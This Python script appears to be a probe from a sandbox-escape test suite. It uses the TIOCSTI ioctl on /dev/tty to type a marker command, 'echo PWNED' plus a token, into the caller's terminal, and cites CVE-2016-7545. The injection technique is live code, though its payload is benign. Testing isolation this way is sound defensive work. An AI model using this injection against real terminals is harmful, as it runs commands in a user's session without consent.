# family: injection
# tries: type a command into the caller's terminal through /dev/tty (the controlling terminal, whatever the standard streams are) with TIOCSTI: "echo PWNED TOKEN"
# source: https://nvd.nist.gov/vuln/detail/CVE-2016-7545
# exfil: no
# stopped-when: pwned-absent, terminal-untouched
# attempted-when: marker
#
# Prints neither the token nor the command itself, so that only injected
# bytes can show it.
import fcntl
import os
import sys
import termios

if len(sys.argv) < 9:
    sys.exit("usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES")
print(f"ATTEMPTED {sys.argv[1]}", file=sys.stderr, flush=True)
cmd = f"echo PWNED {sys.argv[1]}\n".encode()
try:
    fd = os.open("/dev/tty", os.O_RDWR | os.O_NOCTTY)
    for i in range(len(cmd)):
        fcntl.ioctl(fd, termios.TIOCSTI, cmd[i:i + 1])
    print(f"typed {len(cmd)} bytes into the terminal")
except OSError as e:
    print(f"/dev/tty: {e.strerror}")
